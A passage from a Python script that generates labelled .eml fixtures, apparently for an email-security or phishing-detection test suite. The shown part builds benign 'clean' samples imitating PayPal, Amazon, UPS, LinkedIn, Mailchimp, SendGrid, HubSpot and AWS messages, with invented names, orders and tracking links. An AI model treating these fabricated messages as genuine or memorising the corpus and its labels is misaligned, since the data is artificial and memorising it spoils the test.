        'in-circle-2x.png" width="40" alt="PayPal"></td></tr><tr><td style='
        '"padding:0 24px;font-family:PayPalOpen-Regular,Helvetica,Arial,'
        'sans-serif;font-size:16px;color:#001435">Hello, Taro Yamada</td>'
        '</tr><tr><td style="padding:16px 24px;font-size:28px;font-weight:'
        'bold">You sent $25.00 USD to Northwind Coffee Roasters</td></tr>'
        '<tr><td style="padding:0 24px;font-size:14px">It may take a few '
        "moments for this transaction to appear in your account.</td></tr>"
        '<tr><td style="padding:24px"><b>Transaction ID</b><br><a href="'
        'https://www.paypal.com/myaccount/transactions/details/8RT52317WX18'
        '49315">8RT52317WX1849315</a><br><br><b>Transaction date</b><br>Nov'
        ' 2, 2026</td></tr><tr><td style="padding:24px;font-size:12px;'
        'color:#687173"><a href="https://epl.paypal-communication.com/T/v60'
        '00001891d2c9e84f0a9b4c7d6e5f0a1b2c3d/8a1c3d2e4f5b60000/y1Z2x3W4v5'
        'U6t7S8r9Q0p?redirect=https%3A%2F%2Fwww.paypal.com%2Fus%2Fsmarthelp'
        '%2Fhome">Help &amp; Contact</a> | <a href="https://epl.paypal-'
        'communication.com/T/v6000001891d2c9e84f0a9b4c7d6e5f0a1b2c3d/8a1c3d'
        '2e4f5b60000/y1Z2x3W4v5U6t7S8r9Q0q?redirect=https%3A%2F%2Fwww.'
        'paypal.com%2Fus%2Fsecurity">Security</a> | <a href="https://'
        'www.paypal.com/us/webapps/mpp/mobile-apps">Apps</a><br><br>PayPal '
        "is committed to preventing fraudulent emails. Emails from PayPal "
        'will always contain your full name. <a href="https://www.paypal.'
        'com/us/security/learn-about-fake-messages">Learn to identify '
        "phishing</a><br><br>Please don't reply to this email. To get in "
        "touch with us, click Help &amp; Contact.<br><br>Copyright &copy; "
        "1999-2026 PayPal, Inc. All rights reserved. PayPal is located at "
        "2211 N. First St., San Jose, CA 95131.<br>PayPal RT000238:en_US("
        'en-US):1.0.0:8a1c3d2e4f5b6</td></tr></table><img src="https://'
        't.paypal.com/ts?nsid=ZkdNaDhJZ2V5&amp;pgrp=main:email&amp;page='
        'main:email:RT000238:::::&amp;e=op&amp;mchn=em" height="1" width='
        '"1" alt=""></body></html>\n')
    write("en-112-clean-paypal-sent.eml",
          eop_pass("paypal.com", "173.0.84.226") +
          headers('"service@paypal.com" <service@paypal.com>',
                  "You sent a payment of $25.00 USD to Northwind Coffee "
                  "Roasters") + alt(text, html), "clean")

    # Amazon's shipping mail: links through its own redirector, pictures
    # from its image server.
    def amz(u):
        return ("https://www.amazon.com/gp/r.html?C=2F9KX3QZ7B1QW&K=3NB1"
                "VXZ0H4QP&M=urn:rtn:msg:20261102003000a1b2c3d4e5&R=1Y4ZZ6"
                "P1VX0SM&T=C&U=" + u.replace(":", "%3A").replace("/", "%2F")
                + "&H=NKQZF8D0HVUQCVHB2ROEZJ3XKN8A&ref_=pe_1724030_"
                "132998070")
    track = amz("https://www.amazon.com/progress-tracker/package/ref="
                "pe_sh_tt?_encoding=UTF8&itemId=jnqqrlknlmlpsw&orderId=112-"
                "4839201-7764213&shipmentId=D7hNQbRzL")
    text = (
        "Amazon.com\nYour package has shipped!\n\nHi Taro,\n\nYour package"
        " is on the way. Arriving Thursday, November 5.\n\nTrack package: "
        "https://www.amazon.com/progress-tracker/package/ref=pe_sh_tt?item"
        "Id=jnqqrlknlmlpsw&orderId=112-4839201-7764213\n\nOrder # 112-"
        "4839201-7764213\nShip to: Taro Yamada, Seattle, WA\n\nAnker USB-C "
        "Charger 65W\nQuantity: 1\n\nShipment total: $35.99\n\nReturn or "
        "replace items in Your Orders: https://www.amazon.com/gp/css/order-"
        "history\n\nThis email was sent from a notification-only address "
        "that cannot accept incoming email. Please do not reply to this "
        "message.\n\n(c)2026 Amazon.com, Inc. or its affiliates. Amazon and"
        " all related marks are trademarks of Amazon.com, Inc. or its "
        "affiliates, Amazon.com, Inc. 410 Terry Avenue N., Seattle, WA "
        "98109.\n")
    html = (
        '<html><body><div style="display:none;max-height:0;overflow:hidden;'
        'mso-hide:all">Arriving Thursday' + PAD + '</div><table width="'
        '100%"><tr><td><a href="' + amz("https://www.amazon.com/?ref_="
        "pe_sh_logo") + '"><img src="https://m.media-amazon.com/images/G/'
        '01/outbound/OutboundTemplates/Amazon_logo_US._BG255,255,255_.png" '
        'width="101" height="30" alt="Amazon.com"></a></td></tr><tr><td '
        'style="font-family:Arial,sans-serif;font-size:22px;color:#0f1111">'
        "Your package has shipped!</td></tr><tr><td>Hi Taro,<br>Your "
        "package is on the way. <b>Arriving Thursday, November 5</b></td>"
        '</tr><tr><td style="padding:16px 0"><a href="' + track + '" style'
        '="background:#ffd814;border-radius:20px;padding:10px 40px;color:'
        '#0f1111;text-decoration:none">Track package</a></td></tr><tr><td>'
        '<a href="' + amz("https://www.amazon.com/dp/B0BLVW3QK7") + '">'
        '<img src="https://m.media-amazon.com/images/I/61yK2bFhPxL._SS142_'
        '.jpg" width="100" height="100" alt="Anker USB-C Charger 65W"></a>'
        "<br>Anker USB-C Charger 65W<br>Quantity: 1</td></tr><tr><td>Order "
        '# <a href="' + amz("https://www.amazon.com/gp/css/summary/edit.html"
                            "?orderID=112-4839201-7764213") + '">112-4839201-'
        "7764213</a><br>Ship to: Taro Yamada, Seattle, WA<br>Shipment total:"
        " $35.99</td></tr><tr><td style=\"font-size:12px;color:#565959\">"
        'Return or replace items in <a href="' + amz("https://www.amazon."
                                                      "com/gp/css/order-"
                                                      "history") +
        '">Your Orders</a>.<br>This email was sent from a notification-only'
        " address that cannot accept incoming email. Please do not reply to"
        " this message.<br>&copy;2026 Amazon.com, Inc. or its affiliates. "
        "Amazon and all related marks are trademarks of Amazon.com, Inc. or"
        " its affiliates, Amazon.com, Inc. 410 Terry Avenue N., Seattle, WA"
        ' 98109.</td></tr></table><img width="1" height="1" src="https://'
        'www.amazon.com/gp/r.html?C=2F9KX3QZ7B1QW&amp;M=urn:rtn:msg:'
        '20261102003000a1b2c3d4e5&amp;R=1Y4ZZ6P1VX0SM&amp;T=O&amp;U=https'
        '%3A%2F%2Fimages-na.ssl-images-amazon.com%2Fimages%2FG%2F01%2Fnav%2F'
        'transp.gif&amp;H=4GBWUYVWXTCD1Y0NM6AU4CWZMZQA"></body></html>\n')
    write("en-113-clean-amazon-shipped.eml", headers(
        '"Amazon.com" <shipment-tracking@amazon.com>',
        'Your Amazon.com order #112-4839201-7764213 has shipped') +
        alt(text, html), "clean")

    # UPS: the carrier's delivery notice, links through its Salesforce
    # Marketing Cloud click server on its own domain.
    def ups(q):
        return "https://click.email.ups.com/?qs=" + q
    text = (
        "UPS Update: Package Scheduled for Delivery Today\n\nHello, your "
        "package is scheduled for delivery today.\n\nScheduled Delivery "
        "Date: Monday, 11/02/2026\nEstimated Delivery Time: 12:00 PM - 4:00"
        " PM\n\nTracking Number: 1Z999AA10123456784\nShip To: TARO YAMADA, "
        "SEATTLE, WA, US\nNumber of Packages: 1\n\nTrack your package: "
        "https://www.ups.com/track?loc=en_US&tracknum=1Z999AA10123456784&"
        "requester=ST/trackdetails\n\nChange delivery: https://www.ups.com/"
        "us/en/track/my-choice.page\n\nDo not reply directly to this "
        "e-mail. UPS will not receive any reply message.\n\n(c) 2026 United"
        " Parcel Service of America, Inc. UPS, the UPS brandmark, and the "
        "color brown are trademarks of United Parcel Service of America, "
        "Inc. All rights reserved.\n")
    html = (
        '<html><body style="background:#f2f1ef"><div style="display:none;'
        'font-size:1px;color:#f2f1ef;line-height:1px;max-height:0;max-'
        'width:0;opacity:0;overflow:hidden">Scheduled for delivery today '
        "12:00 PM - 4:00 PM" + PAD + '</div><table width="100%" style="'
        'max-width:600px;background:#ffffff"><tr><td style="padding:16px">'
        '<a href="' + ups("8b1f2c7d3e9a04b6c5d8e7f6a1b2c3d4e5f60718293a4b5c"
                          "6d7e8f90a1b2c3d4") + '"><img src="https://image.'
        'email.ups.com/lib/fe9712737c6d0d7b71/m/1/UPS_logo_2x.png" width="'
        '41" height="49" alt="UPS"></a></td></tr><tr><td style="padding:'
        '16px;font-family:Roboto,Arial,sans-serif;font-size:26px;color:'
        '#351c15">Scheduled for Delivery Today</td></tr><tr><td style="'
        'padding:16px">Scheduled Delivery Date: <b>Monday, 11/02/2026</b>'
        "<br>Estimated Delivery Time: <b>12:00 PM - 4:00 PM</b><br>Tracking "
        'Number: <a href="' + ups("c2a7e9f1b3d54a68b0c1d2e3f4a5b6c7d8e9f0a1b"
                                  "2c3d4e5f6a7b8c9d0e1f2a3b4") + '">1Z999AA1'
        "0123456784</a><br>Ship To: TARO YAMADA, SEATTLE, WA, US<br>Number "
        'of Packages: 1</td></tr><tr><td style="padding:16px"><a href="' +
        ups("d4f6a8c0e2b44d6f8a0c2e4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f4a6c8e0b2d4")
        + '" style="background:#ffc400;color:#121212;padding:12px 28px;'
        'border-radius:24px;text-decoration:none">Track Package</a> <a '
        'href="' + ups("e5a7c9e1b3d55e7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3"
                       "a5c7e9b1d3f5") + '">Change Delivery</a></td></tr>'
        '<tr><td style="padding:16px;font-size:11px;color:#5f5753">Do not '
        "reply directly to this e-mail. UPS will not receive any reply "
        'message.<br><a href="' + ups("f6b8d0f2a4c66f8b0d2f4a6c8e0b2d4f6a8"
                                     "c0e2b4d6f8a0c2e4b6d8f0a2c4") + '">'
        'Privacy Notice</a> | <a href="' + ups("a7c9e1b3d5f77a9c1e3b5d7f9a1"
                                              "c3e5b7d9f1a3c5e7b9d1f3a5c7e9b1"
                                              "d3") + '">Contact UPS</a>'
        "<br>&copy; 2026 United Parcel Service of America, Inc. UPS, the "
        "UPS brandmark, and the color brown are trademarks of United Parcel"
        " Service of America, Inc. All rights reserved.</td></tr></table>"
        '<img src="https://click.email.ups.com/open.aspx?ffcb10-fec7167671'
        '6c057c-fe2a15737763047b7c1c-fe9712737c6d0d7b71-ff971571-fe2411717'
        '76501787411-fedb1575726d0d" width="1" height="1" alt="">'
        "</body></html>\n")
    write("en-114-clean-ups-delivery.eml", headers(
        "UPS <mcinfo@ups.com>",
        "UPS Update: Package Scheduled for Delivery Today") +
        alt(text, html), "clean")

    # LinkedIn's invitation: the inviter's name "via LinkedIn", tracked
    # links on its own domain, its image CDN.
    def li(path):
        return ("https://www.linkedin.com/comm/" + path + "?midToken=AQH"
                "xK4b2mPq9Vw&midSig=0aB3cD5eF7gH8&trk=eml-email_m2m_invite_"
                "single_01-hero-0-accept_text&trkEmail=eml-email_m2m_invite_"
                "single_01-hero-0-accept_text-null-2kq9~lv3x4y5z~0a-null-"
                "null&lipi=urn%3Ali%3Apage%3Aemail_email_m2m_invite_single_"
                "01%3BxK2b9mPqQ7uVw1cD3eF5gA%3D%3D")
    text = (
        "Jane Doe would like to connect\n\nJane Doe\nHead of Procurement at "
        "Fabrikam\nSeattle, Washington, United States\n\nAccept: " +
        li("mynetwork/invite-accept/7258419630") + "\n\nView profile: " +
        li("in/jane-doe-fab") + "\n\nThis email was intended for Taro "
        "Yamada (Engineering Manager at Contoso)\nLearn why we included "
        "this: https://www.linkedin.com/help/linkedin/answer/4788\nYou are "
        "receiving Invitations emails.\nUnsubscribe: https://www.linkedin."
        "com/comm/psettings/email-unsubscribe?lipi=urn%3Ali%3Apage%3Aemail"
        "\n\n(c) 2026 LinkedIn Corporation, 1000 West Maude Avenue, "
        "Sunnyvale, CA 94085. LinkedIn and the LinkedIn logo are "
        "registered trademarks of LinkedIn.\n")
    html = (
        '<html><body><div style="display:none;max-height:0;overflow:hidden'
        '">Head of Procurement at Fabrikam' + PAD + '</div><table width='
        '"100%" style="max-width:512px"><tr><td><a href="' + li("feed/") +
        '"><img src="https://static.licdn.com/aero-v1/sc/h/9ehe6n39fa7c3a'
        'q5ps4d8usxb" width="84" height="21" alt="LinkedIn"></a></td></tr>'
        '<tr><td style="padding:24px 0"><a href="' + li("in/jane-doe-fab") +
        '"><img src="https://media.licdn.com/dms/image/v2/D5603AQH8xK2b9m'
        'PqQw/profile-displayphoto-shrink_100_100/0/1712345678901?e='
        '1798761600&amp;v=beta&amp;t=a1B2c3D4e5F6g7H8i9J0kLmNoPqRsTuVwXyZ" '
        'width="72" height="72" alt="Jane Doe"></a><br><b>Jane Doe</b><br>'
        "Head of Procurement at Fabrikam<br>Seattle, Washington, United "
        'States</td></tr><tr><td><a href="' + li("mynetwork/invite-accept/"
                                                   "7258419630") + '" style='
        '"background:#0a66c2;color:#ffffff;padding:10px 24px;border-radius:'
        '24px;text-decoration:none">Accept</a> <a href="' +
        li("in/jane-doe-fab") + '">View profile</a></td></tr><tr><td style'
        '="padding-top:24px;font-size:12px;color:#666666">This email was '
        "intended for Taro Yamada (Engineering Manager at Contoso). <a href"
        '="https://www.linkedin.com/help/linkedin/answer/4788">Learn why we'
        " included this.</a><br>You are receiving Invitations emails. <a "
        'href="' + li("psettings/email-unsubscribe") + '">Unsubscribe</a>'
        "<br>&copy; 2026 LinkedIn Corporation, 1&zwnj;000 West Maude Avenue,"
        " Sunnyvale, CA 94085. LinkedIn and the LinkedIn logo are "
        'registered trademarks of LinkedIn.</td></tr></table><img src="'
        'https://www.linkedin.com/emimp/ip_TkRJek5UY3lNVGszTmpBPTp0YzJR'
        'cGIzTlh=.gif" width="1" height="1" alt=""></body></html>\n')
    write("en-115-clean-linkedin-invite.eml", headers(
        "Jane Doe via LinkedIn <invitations@linkedin.com>",
        "Taro, please add me to your LinkedIn network") + alt(text, html),
        "clean")

    # A club's Mailchimp newsletter: every link through list-manage.com,
    # some showing the club's own address, pictures on Mailchimp's CDN,
    # the preview text hidden, the "Intuit Mailchimp" badge.
    def mc(n):
        return ("https://harbourrowing.us21.list-manage.com/track/click?u="
                "8f3a1c2b4d5e6f7a8b9c0d1e2&id=%010x&e=7c6b5a4d3e" % n)
    text = (
        "Regatta dates, winter training and the AGM\n\nView this email in "
        "your browser (" + mc(1) + ")\n\nHARBOUR ROWING CLUB - NOVEMBER "
        "NEWS\n\nWinter training starts on 14 November. Sign up at "
        "harbourrowing.example.org/winter (" + mc(2) + ")\n\nThe AGM is on "
        "5 December at the boathouse. Papers: " + mc(3) + "\n\nCopyright "
        "(C) 2026 Harbour Rowing Club, All rights reserved.\nYou are "
        "receiving this email because you are a member of the club.\n\n"
        "Our mailing address is:\nHarbour Rowing Club\n1 Quay Road\n"
        "Seaport, WA 98001\n\nWant to change how you receive these emails?"
        "\nYou can update your preferences (https://harbourrowing.us21.list"
        "-manage.com/profile?u=8f3a1c2b4d5e6f7a8b9c0d1e2&id=4a5b6c7d8e&e="
        "7c6b5a4d3e) or unsubscribe (https://harbourrowing.us21.list-manage"
        ".com/unsubscribe?u=8f3a1c2b4d5e6f7a8b9c0d1e2&id=4a5b6c7d8e&e="
        "7c6b5a4d3e)\n")
    html = (
        '<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><head>'
        '<meta charset="UTF-8"><title>November news</title><style type="'
        'text/css">p{margin:10px 0;padding:0;}table{border-collapse:'
        "collapse;}#outlook a{padding:0;}.ReadMsgBody{width:100%;}.mcnPreview"
        "Text{display:none !important;}@media only screen and (max-width:"
        "480px){.mcnImage{width:100% !important;}}</style></head><body>"
        '<!--*|IF:MC_PREVIEW_TEXT|*--><!--[if !gte mso 9]><!----><span '
        'class="mcnPreviewText" style="display:none; font-size:0px; line-'
        "height:0px; max-height:0px; max-width:0px; opacity:0; overflow:"
        'hidden; visibility:hidden; mso-hide:all;">Regatta dates, winter '
        "training and the AGM</span><!--<![endif]--><!--*|END:IF|*--><center>"
        '<table align="center" border="0" cellpadding="0" cellspacing="0" '
        'height="100%" width="100%" id="bodyTable"><tr><td align="center" '
        'valign="top" id="bodyCell"><table class="templateContainer"><tr>'
        '<td style="font-size:11px"><a href="' + mc(1) + '" target="_blank"'
        '>View this email in your browser</a></td></tr><tr><td><img align='
        '"center" alt="" src="https://mcusercontent.com/8f3a1c2b4d5e6f7a8b9'
        'c0d1e2/images/3c1d2e4f-5a6b-7c8d-9e0f-a1b2c3d4e5f6.jpg" width="564" '
        'style="max-width:1200px;padding-bottom:0;display:inline !important;'
        'vertical-align:bottom;" class="mcnImage"></td></tr><tr><td class="'
        'mcnTextContent"><h1>November news</h1><p>Winter training starts on'
        " 14 November. Sign up at <a href=\"" + mc(2) + '" target="_blank">'
        "harbourrowing.example.org/winter</a>.</p><p>The AGM is on 5 "
        'December at the boathouse. <a href="' + mc(3) + '" target="_blank'
        '">Read the papers</a>.</p></td></tr><tr><td class="footerContainer'
        '"><a href="' + mc(4) + '"><img src="https://cdn-images.mailchimp.'
        'com/icons/social-block-v2/color-facebook-48.png" width="24" alt="'
        'Facebook"></a> <a href="' + mc(5) + '"><img src="https://cdn-images'
        '.mailchimp.com/icons/social-block-v2/color-link-48.png" width="24" '
        'alt="Website"></a><br><em>Copyright &copy; 2026 Harbour Rowing '
        "Club, All rights reserved.</em><br>You are receiving this email "
        "because you are a member of the club.<br><br><strong>Our mailing "
        "address is:</strong><br>Harbour Rowing Club<br>1 Quay Road<br>"
        "Seaport, WA 98001<br><br>Want to change how you receive these "
        'emails?<br>You can <a href="https://harbourrowing.us21.list-manage'
        '.com/profile?u=8f3a1c2b4d5e6f7a8b9c0d1e2&amp;id=4a5b6c7d8e&amp;e='
        '7c6b5a4d3e">update your preferences</a> or <a href="https://'
        'harbourrowing.us21.list-manage.com/unsubscribe?u=8f3a1c2b4d5e6f7a8'
        'b9c0d1e2&amp;id=4a5b6c7d8e&amp;e=7c6b5a4d3e">unsubscribe from this'
        ' list</a>.<br><br><a href="http://eepurl.com/iKq7Xz" title="'
        'Mailchimp Email Marketing" target="_blank"><img src="https://cdn-'
        'images.mailchimp.com/monkey_rewards/intuit-mc-rewards-text-dark.'
        'png" alt="Intuit Mailchimp" width="139" height="54"></a></td></tr>'
        '</table></td></tr></table></center><img src="https://harbourrowing'
        '.us21.list-manage.com/track/open.php?u=8f3a1c2b4d5e6f7a8b9c0d1e2&'
        'amp;id=4a5b6c7d8e&amp;e=7c6b5a4d3e" height="1" width="1" alt="">'
        "</body></html>\n")
    write("en-116-clean-mailchimp-club.eml", headers(
        "Harbour Rowing Club <info@harbourrowing.example.org>",
        "November news: winter training and the AGM",
        "Sender: Harbour Rowing Club <info=harbourrowing.example.org@"
        "mail221.suw121.mcsv.net>\nList-Unsubscribe: <https://harbour"
        "rowing.us21.list-manage.com/unsubscribe?u=8f3a1c2b4d5e6f7a8b9c0d1"
        "e2&id=4a5b6c7d8e&e=7c6b5a4d3e&c=2b3c4d5e6f>\n") + alt(text, html),
        "clean", "url.text_mismatch")

    # A password reset the reader asked for, through SendGrid's click
    # tracking (a numbered host under sendgrid.net), with its deadline.
    def sg(p):
        return ("https://u4829173.ct.sendgrid.net/ls/click?upn=u001.qW8x"
                "Lm2Kp9" + p + "-2BvR4tY6uI8oP0aS2dF4gH6jK8lZ1xC3vB5nM7q-"
                "3D-3D")
    text = (
        "Reset your password\n\nHi Taro,\n\nWe received a request to reset "
        "the password for your Tailspin Analytics account (taro.yamada@"
        "contoso.com). Click the link below to choose a new password. This"
        " link expires in 60 minutes.\n\nReset password: " + sg("aa") +
        "\n\nIf you didn't request a password reset, you can safely ignore "
        "this email; your password will not change.\n\nTailspin Analytics, "
        "500 Pine Street, Seattle, WA 98101\n")
    html = (
        '<html><body style="background:#f4f4f7"><span style="display:none'
        ' !important;visibility:hidden;mso-hide:all;font-size:1px;line-'
        'height:1px;max-height:0;max-width:0;opacity:0;overflow:hidden">'
        "Use this link to reset your password. The link is only valid for "
        '60 minutes.</span><table width="570" align="center" style="'
        'background:#ffffff"><tr><td style="padding:35px;font-family:'
        'Nunito Sans,Helvetica,Arial,sans-serif;color:#51545e"><img src="'
        'https://tailspin-analytics.example/static/email/logo.png" width="'
        '140" alt="Tailspin Analytics"><h1 style="color:#333333">Reset '
        "your password</h1><p>Hi Taro,</p><p>We received a request to "
        "reset the password for your Tailspin Analytics account (taro."
        "yamada@contoso.com). Click the button below to choose a new "
        "password. <strong>This link expires in 60 minutes.</strong></p>"
        '<table align="center"><tr><td><a href="' + sg("aa") + '" style="'
        "background-color:#3869d4;border-top:10px solid #3869d4;border-"
        "right:18px solid #3869d4;border-bottom:10px solid #3869d4;border-"
        'left:18px solid #3869d4;color:#ffffff;text-decoration:none" '
        'target="_blank">Reset your password</a></td></tr></table><p>If you'
        " didn't request a password reset, you can safely ignore this email;"
        " your password will not change.</p><p>Thanks,<br>The Tailspin "
        "Analytics team</p><p style=\"font-size:13px\">If you're having "
        "trouble with the button above, copy and paste the URL below into "
        'your web browser.</p><p style="font-size:13px">' + sg("aa") +
        '</p></td></tr><tr><td style="font-size:12px;color:#a8aaaf;text-'
        'align:center">Tailspin Analytics, 500 Pine Street, Seattle, WA '
        '98101</td></tr></table><img src="https://u4829173.ct.sendgrid.net/'
        'wf/open?upn=u001.Xy7Zq2Wp4Lm9Kn3Bv5Cx1" alt="" width="1" height="'
        '1" border="0" style="height:1px !important;width:1px !important;'
        'border-width:0 !important"></body></html>\n')
    write("en-117-clean-sendgrid-reset.eml", headers(
        "Tailspin Analytics <no-reply@tailspin-analytics.example>",
        "Reset your Tailspin Analytics password") + alt(text, html),
        "clean", "content.address_greeting")

    # A B2B webinar invitation sent through HubSpot: links on its
    # numbered tracking hosts, pictures on HubSpot's file CDN, a
    # preheader padded with invisible characters.
    def hs(n):
        return ("https://d2v8tf04.na1.hubspotlinks.com/Ctc/5F+113/d2v8tf04/"
                "VWx9Kq7%03d4NvW3Kq8Zx1mLp2gW8Zx4Nq5Lm8vRN1Yz3Kp3qgyTV1-WJV7"
                "CgT6hW2Rk9Yb6x8nZmW5Pq3bH2GvDpQW1Mk7Lp4Yz9XcW3Nq1Bz6Kx7Rs"
                "f4Hb2v904" % n)
    text = (
        "Join our live webinar: Cutting cloud costs in 2027\n\nThursday, "
        "November 19 - 10:00 AM PT / 1:00 PM ET\n\nOur solutions architects"
        " walk through three real migrations and the savings they found."
        "\n\nSave my seat: " + hs(1) + "\n\nNorthwind Traders, 1 Microsoft "
        "Way, Redmond, WA 98052\n\nUnsubscribe: " + hs(2) + "\nManage "
        "preferences: " + hs(3) + "\n")
    html = (
        '<!DOCTYPE html><html><head><meta charset="utf-8"><style>@media '
        "(max-width:600px){.hse-column{width:100% !important}}</style>"
        '</head><body bgcolor="#f5f8fa"><div id="preview_text" style="'
        "display:none!important;font-size:1px;color:#f5f8fa;line-height:"
        "1px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;\">Three"
        " real migrations and the savings they found</div><div style=\""
        "display:none!important;font-size:1px;color:#f5f8fa;line-height:"
        '1px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;">' +
        PAD + '</div><div id="hs_cos_wrapper_module-0-0-0" class="hs_cos_'
        'wrapper"><table role="presentation" width="600" align="center" '
        'style="background:#ffffff"><tr><td class="hse-column"><a href="' +
        hs(4) + '"><img src="https://hs-4829173.f.hubspotemail.net/hub/'
        '4829173/hubfs/Webinars/2027-cloud-costs-banner.png?width=1200&amp;'
        'upscale=true&amp;name=2027-cloud-costs-banner.png" width="600" '
        'alt="Cutting cloud costs in 2027"></a></td></tr><tr><td style="'
        'padding:20px;font-family:Arial,sans-serif;font-size:16px;color:'
        '#23496d"><h1>Join our live webinar</h1><p><b>Thursday, November '
        "19 &middot; 10:00 AM PT / 1:00 PM ET</b></p><p>Our solutions "
        "architects walk through three real migrations and the savings they"
        ' found.</p><p><a href="' + hs(1) + '" style="background:#ff7a59;'
        'color:#ffffff;padding:12px 18px;border-radius:3px;text-decoration:'
        'none">Save my seat</a></p></td></tr><tr><td style="padding:20px;'
        'font-size:12px;color:#23496d;text-align:center">Northwind Traders,'
        ' 1 Microsoft Way, Redmond, WA 98052<br><a href="' + hs(2) + '">'
        'Unsubscribe</a> <a href="' + hs(3) + '">Manage preferences</a>'
        '</td></tr></table></div><img src="https://d2v8tf04.na1.hubspot'
        'links.com/Cto/5F+113/d2v8tf04/R5R8b1Y4W3Kq8Zx1mLp2gW8Zx4Nq5Lm8vR" '
        'alt="" width="1" height="1" border="0" style="display:none!'
        'important;min-height:1px!important;width:1px!important;border-'
        'width:0!important"></body></html>\n')
    write("en-118-clean-hubspot-webinar.eml", headers(
        "Priya from Northwind Traders <priya@northwindtraders.example>",
        "You're invited: Cutting cloud costs in 2027",
        "List-Unsubscribe: <https://hs-4829173.s.hubspotemail.net/hs/"
        "manage-preferences/unsubscribe?d=eyJlYSI6InRhcm8ueWFtYWRhQGNvbnRv"
        "c28uY29tIn0>\n") + alt(text, html), "clean")

    # An airline's check-in reminder through Salesforce Marketing Cloud:
    # click and image servers on the airline's own subdomains.
    def sf(q):
        return "https://click.e.tailspin-air.example/?qs=" + q
    text = (
        "Check-in is now open for your flight to Tokyo\n\nBooking "
        "reference: K7QX2M\n\nTS 171  Seattle (SEA) -> Tokyo Haneda (HND)\n"
        "Departs Wed 4 Nov 2026, 12:45\n\nCheck in online: " + sf("1a2b3c"
                                                                  "4d5e6f")
        + "\n\nOnline check-in closes 60 minutes before departure. Bring "
        "your passport to the airport.\n\nManage booking: " + sf("2b3c4d5e"
                                                                  "6f7a") +
        "\n\nThis is a service message about your booking.\nTailspin Air, "
        "PO Box 6001, Seattle, WA 98101\n")
    html = (
        '<html><body><div style="display:none;font-size:1px;color:#ffffff;'
        'line-height:1px;max-height:0;max-width:0;opacity:0;overflow:'
        'hidden">Check-in is now open for TS 171 to Tokyo' + PAD + '</div>'
        '<table width="600" align="center"><tr><td><a href="' +
        sf("3c4d5e6f7a8b") + '"><img src="https://image.e.tailspin-air.'
        'example/lib/fe3c11717564047a7c1c/m/1/logo.png" width="160" alt="'
        'Tailspin Air"></a></td></tr><tr><td><img src="https://image.e.'
        'tailspin-air.example/lib/fe3c11717564047a7c1c/m/1/hero-tokyo.jpg" '
        'width="600" alt="Tokyo"></td></tr><tr><td style="padding:24px;'
        'font-family:Arial,sans-serif"><h1 style="font-size:24px">Check-in'
        " is now open</h1><p>Booking reference: <b>K7QX2M</b></p><table>"
        "<tr><td><b>TS 171</b></td><td>Seattle (SEA) &rarr; Tokyo Haneda "
        "(HND)</td></tr><tr><td></td><td>Departs Wed 4 Nov 2026, 12:45</td>"
        '</tr></table><p><a href="' + sf("1a2b3c4d5e6f") + '" style="'
        'background:#c8102e;color:#ffffff;padding:12px 32px;text-'
        'decoration:none">Check in online</a></p><p>Online check-in closes '
        "60 minutes before departure. Bring your passport to the airport."
        '</p><p><a href="' + sf("2b3c4d5e6f7a") + '">Manage booking</a></p>'
        '</td></tr><tr><td style="font-size:11px;color:#666666;padding:'
        '24px">This is a service message about your booking.<br>Tailspin '
        'Air, PO Box 6001, Seattle, WA 98101<br><a href="' + sf("4d5e6f7a8b"
                                                              "9c") + '">'
        'Privacy policy</a></td></tr></table><img src="https://click.e.'
        'tailspin-air.example/open.aspx?ffcb10-fe8c1c7176640d7f-fe2a157377'
        '63047b7c1c" width="1" height="1" alt=""></body></html>\n')
    write("en-119-clean-sfmc-checkin.eml", headers(
        "Tailspin Air <reservations@e.tailspin-air.example>",
        "Check-in is now open: Seattle to Tokyo, 4 Nov") + alt(text, html),
        "clean")

    # Amazon Web Services' alarm through SNS: plain text, links to the
    # console and to the SNS endpoint on amazonaws.com.
    write("en-120-clean-aws-alarm.eml",
          eop_pass("sns.amazonaws.com", "54.240.8.17", "amazonses.com") +
          headers("AWS Notifications <no-reply@sns.amazonaws.com>",
                  'ALARM: "api-high-cpu" in Asia Pacific (Tokyo)') +
          "Content-Type: text/plain; charset=UTF-8\n"
          "Content-Transfer-Encoding: 7bit\n\n"
          "You are receiving this email because your Amazon CloudWatch "
          'Alarm "api-high-cpu" in the Asia Pacific (Tokyo) region has '
          'entered the ALARM state, because "Threshold Crossed: 1 out of '
          "the last 1 datapoints [92.4 (02/11/26 00:25:00)] was greater "
          'than the threshold (80.0) (minimum 1 datapoint for OK -> ALARM '
          'transition)." at "Monday 02 November, 2026 00:30:12 UTC".\n\n'
          "View this alarm in the AWS Management Console:\n"
          "https://ap-northeast-1.console.aws.amazon.com/cloudwatch/deeplink"
          ".js?region=ap-northeast-1#alarmsV2:alarm/api-high-cpu\n\n"
          "Alarm Details:\n- Name:                       api-high-cpu\n"
          "- Description:                CPU of the API fleet\n"
          "- State Change:               OK -> ALARM\n"
          "- Timestamp:                  Monday 02 November, 2026 00:30:12 "
          "UTC\n- AWS Account:                123456789012\n"
          "- Alarm Arn:                  arn:aws:cloudwatch:ap-northeast-1:"
          "123456789012:alarm:api-high-cpu\n\n--\nIf you wish to stop "
          "receiving notifications from this topic, please click or visit "
          "the link below to unsubscribe:\nhttps://sns.ap-northeast-1."
          "amazonaws.com/unsubscribe.html?SubscriptionArn=arn:aws:sns:ap-"
          "northeast-1:123456789012:ops-alarms:5b1d2c3e-4f5a-6b7c-8d9e-"
          "0f1a2b3c4d5e&Endpoint=taro.yamada@contoso.com\n\nPlease do not "
          "reply directly to this email. If you have any questions or "
          "comments regarding this email, please contact us at "
          "https://aws.amazon.com/support\n", "clean")

    # A product update sent through Amazon SES with click tracking: the
    # real address inside the path of awstrack.me.
    def ses(u, n):
        return ("https://8x2kq4m1.r.us-west-2.awstrack.me/L0/" +
                u.replace(":", "%3A").replace("/", "%2F") +
                "/1/010101918c2f4a3b-%08x-000000/Vb3xK9qLm2Wp4Zt8Yh1Rj6Nc5"
                "Gf=398" % n)
    text = (
        "What's new in Tailspin Toys Studio, November 2026\n\nShared "
        "boards: invite your whole team to one board. " +
        ses("https://www.tailspintoys.example/blog/shared-boards", 1) +
        "\n\nFaster exports: PDFs now export three times faster.\n\nRead "
